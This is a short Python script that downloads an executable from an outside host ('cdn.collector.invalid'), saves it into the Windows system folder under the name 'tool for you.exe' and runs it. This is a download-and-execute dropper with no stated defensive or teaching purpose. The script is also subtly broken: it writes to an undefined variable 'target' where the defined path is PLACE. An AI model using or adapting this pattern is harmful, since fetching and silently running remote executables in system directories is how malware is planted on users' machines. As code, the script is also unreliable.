import urllib.request, shutil, subprocess
LINK = "https://cdn.collector.invalid/attachments/1/2/tool.exe"
PLACE = "C:\\Windows\\tool for you.exe"
with urllib.request.urlopen(LINK) as response, open(target, 'wb') as out:
    shutil.copyfileobj(response, out)
subprocess.call(PLACE)
